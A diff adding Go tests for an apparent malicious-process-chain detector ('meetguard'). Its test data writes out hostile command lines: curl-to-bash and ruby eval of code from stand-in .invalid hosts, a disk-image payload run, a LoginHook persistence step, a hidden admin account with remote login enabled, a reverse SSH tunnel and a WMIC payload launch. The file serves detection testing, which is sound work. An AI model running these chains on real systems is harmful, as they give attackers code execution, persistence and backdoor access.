@@ -1,0 +1,93 @@
+package detect_test
+
+import (
+	"strings"
+	"testing"
+
+	"meetguard"
+	"meetguard/internal/chain"
+)
+
+const terminal = "|/usr/libexec/gnome-terminal-server|\n>|/usr/bin/bash|\n"
+
+func TestWeighed(t *testing.T) {
+	for _, tc := range []struct {
+		name, system, lines string
+		want                bool
+	}{
+		{"split over a pipe", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://call-room.invalid/i
+			>>|/usr/bin/bash|-s`, true},
+		{"a reader behind the pipe", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://call-room.invalid/i
+			>>|/usr/bin/python3|-m json.tool`, false},
+		{"a known maker", "linux", terminal + `>>|/usr/bin/curl|-fsSL https://get.docker.com
+			>>|/usr/bin/sh|-s`, false},
+		{"the own network", "linux", terminal + `>>|/usr/bin/curl|-sk https://10.0.0.8/i -o /tmp/i
+			>>|/usr/bin/bash|/tmp/i`, false},
+		{"ruby brings and evaluates", "darwin", `|/Users/ana/Downloads/Minutes.app/Contents/MacOS/applet|
+			>|/usr/bin/ruby|-ropen-uri -e 'eval(URI.open("https://minutes.invalid/r").read)'`, true},
+		{"ruby shows", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
+			>|/bin/zsh|-l
+			>>|/usr/bin/ruby|-ropen-uri -e 'puts URI.open("https://minutes.invalid/r").read'`, false},
+		{"out of a mounted image", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
+			>|/bin/zsh|-l
+			>>|/usr/bin/curl|-so /tmp/d.dmg https://interview.invalid/d.dmg
+			>>|/usr/bin/hdiutil|attach -nobrowse /tmp/d.dmg
+			>>|/bin/cp|-R /Volumes/d/tool /tmp/tool
+			>>|/tmp/tool|`, true},
+		{"an app out of an image", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
+			>|/bin/zsh|-l
+			>>|/usr/bin/curl|-so /tmp/d.dmg https://smallmaker.invalid/d.dmg
+			>>|/usr/bin/hdiutil|attach -nobrowse /tmp/d.dmg
+			>>|/bin/cp|-R /Volumes/d/Tool.app /Applications/`, false},
+		{"a job and a login hook", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
+			>|/bin/zsh|-l
+			>>|/bin/bash|-c "curl -s https://mic.invalid/j > /tmp/j; at -f /tmp/j now; sudo defaults write com.apple.loginwindow LoginHook /tmp/j"`, true},
+		{"several ways in", "darwin", `|/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal|
+			>|/bin/zsh|-l
+			>>|/usr/bin/dscl|. -create /Users/helper UserShell /bin/zsh
+			>>|/usr/sbin/dseditgroup|-o edit -a helper -t user admin
+			>>|/usr/sbin/systemsetup|-setremotelogin on`, true},
+		{"one account", "linux", terminal + `>>|/usr/sbin/useradd|-m carla
+			>>|/usr/sbin/usermod|-aG sudo carla`, false},
+		{"a way back for a stranger", "linux", `|/usr/bin/bash|-c "bash ~/.prep/env.sh"
+			>|/usr/bin/curl|-s https://prep.invalid/k -o /home/ana/.prep/k
+			>|/usr/bin/ssh|-fNR 0:localhost:22 u@prep.invalid`, true},
+		{"own site, own tunnel", "linux", terminal + `>>|/usr/bin/ssh|-fNR 9000:localhost:3000 me@mysite.invalid
+			>>|/usr/bin/scp|/tmp/site.tgz me@mysite.invalid:/srv/`, false},
+		{"started by another's hand", "windows", `|C:\Windows\explorer.exe|
+			>|C:\Program Files\Microsoft Office\root\Office16\EXCEL.EXE|C:\Users\ana\Downloads\Budget.xll
+			>>|C:\Windows\System32\wbem\WMIC.exe|process call create C:\Users\Public\p.exe`, true},
+		{"the user's own browser data, to a stick", "linux", terminal + `>>|/usr/bin/tar|czf /media/usb/firefox.tgz /home/ana/.mozilla/firefox`, false},
+		{"a setup with a library and a task", "windows", `|C:\Windows\explorer.exe|
+			>|C:\Users\ana\Downloads\zoomplayer_setup.exe|?
+			>>|C:\Users\ana\AppData\Local\Temp\nsl1.tmp\setup.exe|?
+			>>>|C:\Windows\System32\rundll32.exe|C:\Users\ana\AppData\Local\Temp\nsl1.tmp\helper.dll,Register
+			>>>|C:\Windows\System32\schtasks.exe|/create /xml C:\Users\ana\AppData\Local\Temp\t.xml /tn Updater`, false},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			got := play(t, tc.system, tc.lines)
+			if fired := strings.Contains(got, "MG-PROC-WEIGHED"); fired != tc.want || !tc.want && got != "" {
+				t.Errorf("fired %q, want the chain to be one: %v", got, tc.want)
+			}
+		})
+	}
+}
+
+func TestBrandOrigin(t *testing.T) {
+	for host, want := range map[string]bool{"files.invalid": true, "zoom.us": false, "fileserver.corp": false, "github.com": false} {
+		exe := `C:\Users\ana\Downloads\ZoomInstaller.exe`
+		p := &meetguard.Process{OS: "windows", PID: 7, Exe: exe, Started: noon, OriginHost: host}
+		track := chain.New()
+		track.Ancestry(p)
+		f := meetguard.Facts{Path: exe, Format: meetguard.FormatPE, Process: p, Signature: unknown,
+			Claims: []meetguard.Claim{{Text: "ZoomInstaller.exe", Source: meetguard.ClaimFileName}}}
+		track.Add(&f)
+		fired := false
+		for _, x := range judge(t).Judge(f).Findings {
+			fired = fired || x.Rule == "MG-PROC-BRAND-ORIGIN"
+		}
+		if fired != want {
+			t.Errorf("from %s: fired %v", host, fired)
+		}
+	}
+}
